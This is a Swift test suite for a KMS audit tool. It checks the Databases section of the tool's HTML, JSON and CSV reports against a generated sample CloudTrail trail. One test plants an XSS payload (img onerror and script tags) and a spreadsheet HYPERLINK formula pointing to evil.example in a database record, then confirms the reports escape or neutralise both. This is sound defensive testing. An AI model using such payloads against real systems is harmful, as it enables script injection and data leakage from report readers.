import CSV
import Foundation
import GRDB
import Testing
@testable import KMSAudit
@testable import KMSAuditSample

/// The report's Databases section end to end: `kmsaudit sample` writes a trail, `kmsaudit audit`
/// (the real binary) ingests, checks and writes the reports, and real headless Chromium reads the
/// HTML. Every row is checked against the generator's own world (its resources, keys and
/// accounts) and its expected findings, not against strings written here.
@Suite(.serialized) struct ReportDatabasesTests {
    /// One audited sample trail, shared by the tests of this suite.
    struct Audited: Sendable {
        let directory: URL
        let reports: URL
        let database: String
        let expectedFindings: Data

        /// Made once for the suite (a `Result` is Sendable; nothing in it is mutable).
        static let shared: Result<Audited, any Error> = Result { try make() }

        /// The generator's expected findings (expected-findings.json).
        var expected: [[String: Any]] {
            (try? JSONSerialization.jsonObject(with: expectedFindings)) as? [[String: Any]] ?? []
        }
        /// The generator's world: identifiers come from a fixed seed, whatever the trail's start.
        var world: SampleWorld { SampleWorld(clock: SampleClock(start: 0, days: 7)) }

        static func make() throws -> Audited {
            let dir = try TestSupport.temporaryDirectory("databases-sample")
            let trail = dir.appendingPathComponent("trail")
            let sample = try TestSupport.kmsaudit(["sample", "--out", trail.path, "--events", "4000", "--seed", "11", "--days", "7"])
            guard sample.status == 0 else { throw Failure(description: "sample failed: \(sample.stderr)") }
            let reports = dir.appendingPathComponent("reports")
            let db = dir.appendingPathComponent("audit.sqlite").path
            let audit = try TestSupport.kmsaudit(["audit", trail.path, "--db", db, "--report-dir", reports.path, "--quiet"])
            guard audit.status == 0 || audit.status == 1 else { throw Failure(description: "audit failed: \(audit.stderr)") }
            return Audited(directory: dir, reports: reports, database: db,
                           expectedFindings: try Data(contentsOf: trail.appendingPathComponent("expected-findings.json")))
        }

        /// The world's databases alive at the trail's end: clusters and instances outside a
        /// cluster, less the ones the generator deletes (its deleted-without-final-snapshot cases).
        var aliveDatabases: [DBResource] {
            let expected = self.expected
            let deleted = Set(expected.filter { $0["category"] as? String == "deleted-without-final-snapshot" }
                .compactMap { $0["resource"] as? String })
            return world.resources.values.filter { $0.cluster == nil && !deleted.contains($0.arn) }
                .sorted { $0.arn < $1.arn }
        }

        func expectedController(_ r: DBResource) -> String {
            guard let key = r.key else { return "none" }
            if key.awsManaged { return "aws-managed" }
            return key.account == r.account ? "own-account" : "other-account"
        }
    }

    struct Failure: Error, CustomStringConvertible { var description: String }

    /// What the browser shows of each row, read through the DOM.
    static let rowsScript = """
        JSON.stringify(Array.prototype.map.call(document.querySelectorAll('tr.database-row'), function (r) {
          function text(sel) { var e = r.querySelector(sel); return e ? e.textContent : null; }
          return { arn: r.getAttribute('data-arn'), encrypted: r.getAttribute('data-encrypted'),
                   controller: r.getAttribute('data-controller'), survives: r.getAttribute('data-survives'),
                   key: text('.db-key'), alias: text('.db-alias'), engine: text('.db-engine'),
                   verdict: text('.db-verdict'), visible: r.offsetHeight > 0,
                   members: Array.prototype.map.call(r.querySelectorAll('.db-members li'), function (m) { return m.textContent; }),
                   paths: Array.prototype.map.call(r.querySelectorAll('.db-path'), function (p) {
                     return { kind: p.getAttribute('data-kind'), independent: p.getAttribute('data-independent'),
                              key: p.getAttribute('data-key'),
                              shown: (p.querySelector('.path-key') || { textContent: null }).textContent }; }),
                   rules: Array.prototype.map.call(r.querySelectorAll('.db-findings .badge'), function (b) { return b.textContent; }) };
        }))
        """

    @Test func htmlShowsARowPerDatabaseWithItsKeyControllerAndRecoveryPaths() throws {
        let audited = try Audited.shared.get()
        let page = audited.reports.appendingPathComponent("latest.html")
        let run = try Chromium.inspect(page: page, in: audited.directory, arguments: [], selector: "tr.database-row",
                                       evaluate: [Self.rowsScript])
        #expect(run.consoleLines.isEmpty, "console output: \(run.consoleLines)")
        #expect(run.pageRequests.isEmpty, "requests made by the page: \(run.pageRequests)")
        let value = try #require(run.values.first)
        let rows = try #require(JSONSerialization.jsonObject(with: Data(value.utf8)) as? [[String: Any]])
        let byARN = Dictionary(rows.map { ($0["arn"] as? String ?? "", $0) }, uniquingKeysWith: { a, _ in a })
        #expect(byARN.count == rows.count, "one row per database")

        let alive = audited.aliveDatabases
        #expect(alive.count >= 15)
        for r in alive {
            guard let row = byARN[r.arn] else { Issue.record("no Databases row for \(r.arn)"); continue }
            #expect(row["visible"] as? Bool == true)
            #expect(row["engine"] as? String == r.engine.rawValue, "\(r.arn)")
            #expect(row["controller"] as? String == audited.expectedController(r), "\(r.arn)")
            // Member instances are listed under their cluster, not as rows of their own.
            #expect(Set(row["members"] as? [String] ?? []) == Set(r.members.map(\.arn)), "\(r.arn)")
            for m in r.members { #expect(byARN[m.arn] == nil, "member \(m.arn) has a row of its own") }
            let paths = row["paths"] as? [[String: Any]] ?? []
            if let key = r.key {
                #expect(row["encrypted"] as? String == "yes", "\(r.arn)")
                #expect(row["key"] as? String == key.arn, "\(r.arn)")
                if let alias = key.alias {
                    #expect((row["alias"] as? String ?? "").split(separator: ",").contains(Substring(alias)), "\(r.arn) alias")
                }
                // A path is independent exactly when its key is not the database's; the verdict follows.
                for p in paths {
                    let other = p["independent"] as? String == "yes"
                    #expect(other == (p["key"] as? String != key.arn && p["key"] as? String != ""), "\(r.arn) \(p)")
                    // A path under another key names that key on the page.
                    if other { #expect(p["shown"] as? String == p["key"] as? String, "\(r.arn) \(p)") }
                }
                let survives = paths.contains { $0["independent"] as? String == "yes" }
                #expect(row["survives"] as? String == (survives ? "yes" : "no"), "\(r.arn)")
            } else {
                #expect(row["encrypted"] as? String == "no", "\(r.arn)")
                #expect(row["survives"] as? String == "n/a", "\(r.arn)")
            }
            // Resources background traffic never touches keep the generator's retention.
            if !r.backgroundManaged {
                let automated = paths.filter { $0["kind"] as? String == "automated-backups" }
                #expect(automated.count == (r.retention > 0 ? 1 : 0), "\(r.arn) automated backups")
                #expect(automated.allSatisfy { $0["key"] as? String == (r.key?.arn ?? "") }, "\(r.arn) automated backups' key")
            }
            // Every planted finding about the resource is cited by rule id.
            let rules = Set(row["rules"] as? [String] ?? [])
            for e in audited.expected where e["resource"] as? String == r.arn {
                #expect(rules.contains(e["rule_id"] as? String ?? ""), "\(r.arn) lacks \(e["rule_id"] ?? "")")
            }
        }
        // What the generator's expected findings say about recovery: a KMS-004 revocation that is
        // high (not critical) left its resource a backup under another key; critical did not.
        var judged = 0
        for e in audited.expected where e["rule_id"] as? String == "KMS-004" {
            guard let arn = e["resource"] as? String, let row = byARN[arn] else { continue }
            switch e["severity"] as? String {
            case "high"?: #expect(row["survives"] as? String == "yes", "\(arn)"); judged += 1
            case "critical"?: #expect(row["survives"] as? String == "no", "\(arn)"); judged += 1
            default: break
            }
        }
        #expect(judged >= 2)
        for e in audited.expected where e["rule_id"] as? String == "KMS-003" {
            guard let arn = e["resource"] as? String, let row = byARN[arn] else { continue }
            #expect(row["survives"] as? String == "no", "\(arn) has a KMS-003 finding")
        }
        // KMS-008 counts only copies made within max_independent_copy_age_days (35) before the
        // window's end; the section lists every path. So a database with a KMS-008 finding either
        // has no path under another key, or only ones older than that (its evidence says so).
        let json = try Self.jsonReport(audited)
        let windowEnd = try #require((json["run"] as? [String: Any])?["window_end"] as? String)
        let cutoff = TimeFormats.canonical(try #require(TimeFormats.parseISO8601(windowEnd)).addingTimeInterval(-35 * 86_400))
        let jsonRows = Dictionary((json["databases"] as? [[String: Any]] ?? []).map { ($0["arn"] as? String ?? "", $0) },
                                  uniquingKeysWith: { a, _ in a })
        for e in audited.expected where e["rule_id"] as? String == "KMS-008" {
            guard let arn = e["resource"] as? String, let row = byARN[arn] else { continue }
            if row["survives"] as? String == "no" { continue }
            let independent = (jsonRows[arn]?["recovery_paths"] as? [[String: Any]] ?? []).filter { $0["independent"] as? Bool == true }
            #expect(!independent.isEmpty && independent.allSatisfy { ($0["created_at"] as? String ?? "9") < cutoff },
                    "\(arn) has a KMS-008 finding but a recent path under another key: \(independent)")
        }
    }

    @Test func withJavaScriptOffEveryDatabaseRowIsShown() throws {
        let audited = try Audited.shared.get()
        let page = audited.reports.appendingPathComponent("latest.html")
        let run = try Chromium.inspect(page: page, in: audited.directory,
                                       arguments: ["--blink-settings=scriptEnabled=false"], selector: "tr.database-row")
        #expect(run.consoleLines.isEmpty, "console output: \(run.consoleLines)")
        let json = try Self.jsonReport(audited)
        let databases = try #require(json["databases"] as? [[String: Any]])
        #expect(run.matches == databases.count)
        #expect(run.matches >= audited.aliveDatabases.count)
    }

    @Test func jsonAndCSVCarryTheSameRowsAsTheHTML() throws {
        let audited = try Audited.shared.get()
        let json = try Self.jsonReport(audited)
        let databases = try #require(json["databases"] as? [[String: Any]])
        let findings = try #require(json["findings"] as? [[String: Any]])
        let findingsByFingerprint = Dictionary(findings.map { ($0["fingerprint"] as? String ?? "", $0) }, uniquingKeysWith: { a, _ in a })
        let byARN = Dictionary(databases.map { ($0["arn"] as? String ?? "", $0) }, uniquingKeysWith: { a, _ in a })
        for r in audited.aliveDatabases {
            let d = try #require(byARN[r.arn], "no databases[] entry for \(r.arn)")
            #expect(d["key_arn"] as? String == r.key?.arn, "\(r.arn)")
            #expect(d["encrypted"] as? String == (r.key == nil ? "no" : "yes"))
            let controller = audited.expectedController(r)
            #expect((d["key_controller"] as? String ?? "none") == controller, "\(r.arn)")
            let paths = d["recovery_paths"] as? [[String: Any]] ?? []
            let independent = paths.contains { $0["independent"] as? Bool == true }
            if r.key != nil { #expect(d["survives_key_loss"] as? Bool == independent, "\(r.arn)") }
            else { #expect(d["survives_key_loss"] is NSNull) }
            // Each cited finding is a finding of this report about this database or its key.
            for ref in d["findings"] as? [[String: Any]] ?? [] {
                let f = try #require(findingsByFingerprint[ref["fingerprint"] as? String ?? ""], "unknown fingerprint \(ref)")
                #expect(f["rule_id"] as? String == ref["rule_id"] as? String)
                let subjects = Set([r.arn] + r.members.map(\.arn))
                if let resource = f["resource"] as? String {
                    #expect(resource.components(separatedBy: ", ").contains { subjects.contains($0) }, "\(ref)")
                } else {
                    #expect(f["key_arn"] as? String == r.key?.arn, "\(ref)")
                }
            }
        }

        let text = try String(contentsOf: audited.reports.appendingPathComponent("latest-databases.csv"), encoding: .utf8)
        let (header, rows) = try ReportCSVTests.read(text)
        #expect(header == CSVReport.databasesColumns)
        #expect(rows.count == databases.count)
        let column = Dictionary(uniqueKeysWithValues: header.enumerated().map { ($1, $0) })
        for row in rows {
            let d = try #require(byARN[row[column["arn"]!]])
            #expect(row[column["key_arn"]!] == (d["key_arn"] as? String ?? d["key_ref"] as? String ?? ""))
            #expect(row[column["key_controller"]!] == (d["key_controller"] as? String ?? ""))
            #expect(row[column["survives_key_loss"]!] == ((d["survives_key_loss"] as? Bool).map { $0 ? "yes" : "no" } ?? ""))
            let paths = d["recovery_paths"] as? [[String: Any]] ?? []
            let lines = row[column["recovery_paths"]!].split(separator: "\n", omittingEmptySubsequences: true)
            #expect(lines.count == paths.count)
            #expect(row[column["fingerprints"]!] == (d["findings"] as? [[String: Any]] ?? []).compactMap { $0["fingerprint"] as? String }.joined(separator: " "))
        }
    }

    /// Paths alike (a daily backup's recovery points) are one entry with their count, in every
    /// format, and the counts add up to the paths the view lists one by one at the window end.
    @Test func pathsAlikeAreOneEntryWhoseCountsAddUpToTheViewsPaths() throws {
        let audited = try Audited.shared.get()
        let json = try Self.jsonReport(audited)
        let windowEnd = try #require((json["run"] as? [String: Any])?["window_end"] as? String)
        let databases = try #require(json["databases"] as? [[String: Any]])
        // The view's paths, one by one, alive at the window end.
        let queue = try DatabaseQueue(path: audited.database)
        var viewPaths: [String: [[String: Any]]] = [:]
        try queue.read { db in
            for row in try Row.fetchAll(db, sql: "SELECT arn, recovery_paths FROM database_overview WHERE deleted_at IS NULL OR deleted_at > ?",
                                        arguments: [windowEnd]) {
                let all = try JSONSerialization.jsonObject(with: Data((row["recovery_paths"] as String).utf8)) as? [[String: Any]] ?? []
                viewPaths[row["arn"], default: []] += all.filter { p in
                    (p["created_at"] as? String).map { $0 <= windowEnd } ?? true
                        && (p["deleted_at"] as? String).map { $0 > windowEnd } ?? true
                }
            }
        }
        var grouped = 0
        for d in databases {
            let arn = try #require(d["arn"] as? String)
            let entries = d["recovery_paths"] as? [[String: Any]] ?? []
            let one = try #require(viewPaths[arn])
            #expect(entries.reduce(0) { $0 + ($1["count"] as? Int ?? 0) } == one.count, "\(arn)")
            func alike(_ p: [String: Any]) -> String {
                ["kind", "key_arn", "region", "account", "retention_days", "independent"].map { "\(p[$0] ?? "nil")" }.joined(separator: "|")
            }
            #expect(Set(entries.map(alike)).count == entries.count, "\(arn): two entries alike")
            for e in entries {
                let members = one.filter { alike($0) == alike(e) }
                #expect(e["count"] as? Int == members.count, "\(arn) \(e)")
                let times = members.compactMap { $0["created_at"] as? String }.sorted()
                #expect(e["created_at"] as? String == times.last, "\(arn) newest")
                #expect(e["oldest_created_at"] as? String == times.first, "\(arn) oldest")
                if (e["count"] as? Int ?? 0) > 1 { grouped += 1 }
            }
        }
        #expect(grouped > 0, "the sample trail has no database with paths alike: nothing was grouped")

        // The HTML shows the same entries with the same counts; the CSV one line per entry.
        let run = try Chromium.inspect(page: audited.reports.appendingPathComponent("latest.html"), in: audited.directory,
                                       arguments: [], selector: "tr.database-row", evaluate: ["""
            JSON.stringify(Array.prototype.map.call(document.querySelectorAll('tr.database-row'), function (r) {
              return [r.getAttribute('data-arn'), Array.prototype.map.call(r.querySelectorAll('.db-path'), function (p) {
                return Number(p.getAttribute('data-count')); }).reduce(function (a, b) { return a + b; }, 0),
                r.querySelectorAll('.path-count').length]; }))
            """])
        let value = try #require(run.values.first)
        let rows = try #require(JSONSerialization.jsonObject(with: Data(value.utf8)) as? [[Any]])
        #expect(rows.count == databases.count)
        for row in rows {
            let arn = row[0] as? String ?? ""
            #expect(row[1] as? Int == viewPaths[arn]?.count, "\(arn) in the HTML")
            let many = (databases.first { $0["arn"] as? String == arn }?["recovery_paths"] as? [[String: Any]] ?? [])
                .filter { ($0["count"] as? Int ?? 0) > 1 }.count
            #expect(row[2] as? Int == many, "\(arn): one 'newest of N' note per entry alike")
        }
        let (header, csvRows) = try ReportCSVTests.read(String(contentsOf: audited.reports.appendingPathComponent("latest-databases.csv"), encoding: .utf8))
        let pathsColumn = try #require(header.firstIndex(of: "recovery_paths"))
        let counted = csvRows.flatMap { $0[pathsColumn].split(separator: "\n") }.map { line in
            line.split(separator: " ").first { $0.hasPrefix("count=") }.flatMap { Int($0.dropFirst(6)) } ?? 1
        }.reduce(0, +)
        #expect(counted == viewPaths.values.reduce(0) { $0 + $1.count })
    }

    /// The view the section reads, by SQL: one query, one row per database and incarnation.
    @Test func theViewHasOneRowPerClusterOrStandaloneInstance() throws {
        let audited = try Audited.shared.get()
        let queue = try DatabaseQueue(path: audited.database)
        try queue.read { db in
            let viewRows = try Int.fetchOne(db, sql: "SELECT count(*) FROM database_overview") ?? -1
            let resources = try Int.fetchOne(db, sql: """
                SELECT count(*) FROM db_resources WHERE NOT (kind = 'instance' AND cluster_identifier IS NOT NULL)
                """) ?? -2
            #expect(viewRows == resources)
            #expect(try Bool.fetchOne(db, sql: "SELECT count(*) = 0 FROM database_overview WHERE NOT json_valid(recovery_paths)") == true)
            #expect(try String.fetchOne(db, sql: "SELECT identifier FROM grdb_migrations WHERE identifier = 'v12-databases-view'")
                    == "v12-databases-view")
        }
    }

    /// `independent_paths` and `survives_key_loss` are counted from the tables (v24), not out of
    /// `recovery_paths`: they must still say what the listed paths say, on every row.
    @Test func theViewsCountsAreThoseOfThePathsItLists() throws {
        let audited = try Audited.shared.get()
        let queue = try DatabaseQueue(path: audited.database)
        var counted: [Int] = []
        try queue.read { db in
            for row in try Row.fetchAll(db, sql: """
                SELECT arn, encrypted, recovery_paths, independent_paths, survives_key_loss FROM database_overview
                """) {
                let arn: String = row["arn"]
                let text: String = row["recovery_paths"]
                let paths = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]])
                let live = paths.filter { $0["independent"] as? Bool == true && $0["deleted_at"] is NSNull }.count
                #expect(row["independent_paths"] as Int == live, "\(arn)")
                let survives: Bool? = row["survives_key_loss"]
                #expect(survives == ((row["encrypted"] as String) == "yes" ? live > 0 : nil), "\(arn)")
                counted.append(live)
            }
            #expect(try SchemaMigrations.migrator.appliedMigrations(db).contains("v24-databases-view-counted"))
        }
        // The sample has databases that would survive their key's loss and databases that would not.
        #expect(counted.contains(0) && counted.contains { $0 > 0 }, "\(counted)")
    }

    /// An identifier, engine and key reference written by an attacker stay text everywhere.
    @Test func hostileIdentifierIsEscapedInHTMLNeutralisedInCSVAndExactInJSON() throws {
        let dir = try TestSupport.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let identifier = #"x"><img src=x onerror=alert(1)><script>alert(2)</script>"#
        let engine = #"=HYPERLINK("http://evil.example/?leak","Click")"#
        // The real CreateDBInstance record (Elastic's integration test), with hostile values.
        let line = try String(contentsOf: TestSupport.fixture("state/elastic-integrations/test-create-db-instance-json.log"),
                              encoding: .utf8)
        var record = try #require(JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        var request = try #require(record["requestParameters"] as? [String: Any])
        var response = try #require(record["responseElements"] as? [String: Any])
        let arn = "arn:aws:rds:us-east-1:1010101010101:db:\(identifier)"
        request["dBInstanceIdentifier"] = identifier; request["engine"] = engine
        response["dBInstanceIdentifier"] = identifier; response["engine"] = engine; response["dBInstanceArn"] = arn
        response["storageEncrypted"] = true
        response["kmsKeyId"] = #"arn:aws:kms:us-east-1:1010101010101:key/"><b>bold</b>"#
        record["requestParameters"] = request; record["responseElements"] = response
        try TestSupport.gzip(try TestSupport.batch([record]),
                             to: dir.appendingPathComponent("trail/hostile.json.gz"))
        let reports = dir.appendingPathComponent("reports")
        let audit = try TestSupport.kmsaudit(["audit", dir.appendingPathComponent("trail").path,
                                              "--db", dir.appendingPathComponent("a.sqlite").path,
                                              "--report-dir", reports.path, "--quiet"])
        #expect(audit.status == 0 || audit.status == 1, "\(audit.stderr)")

        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: reports.appendingPathComponent("latest.json"))) as? [String: Any]
        let databases = try #require(json?["databases"] as? [[String: Any]])
        let row = try #require(databases.first)
        #expect(databases.count == 1)
        // RDS lower-cases identifiers, and so does the state; nothing else changes the text.
        #expect(row["identifier"] as? String == identifier.lowercased())
        #expect(row["engine"] as? String == engine)

        let page = reports.appendingPathComponent("latest.html")
        let run = try Chromium.inspect(page: page, in: dir, arguments: [], selector: "tr.database-row img, tr.database-row b, tr.database-row script",
                                       evaluate: ["document.querySelector('tr.database-row .db-engine').textContent",
                                                  "document.querySelector('tr.database-row').getAttribute('data-arn')",
                                                  "document.querySelectorAll('script').length"])
        #expect(run.matches == 0, "markup from the log became elements")
        #expect(run.values == [engine, row["arn"] as? String ?? "?", "1"])
        #expect(run.consoleLines.isEmpty, "console output: \(run.consoleLines)")

        let (header, rows) = try ReportCSVTests.read(String(contentsOf: reports.appendingPathComponent("latest-databases.csv"), encoding: .utf8))
        let engineColumn = try #require(header.firstIndex(of: "engine"))
        let engineCell = try #require(rows.first?[engineColumn])
        #expect(engineCell == "'" + engine)
    }

    static func jsonReport(_ audited: Audited) throws -> [String: Any] {
        try JSONSerialization.jsonObject(with: Data(contentsOf: audited.reports.appendingPathComponent("latest.json"))) as? [String: Any] ?? [:]
    }
}
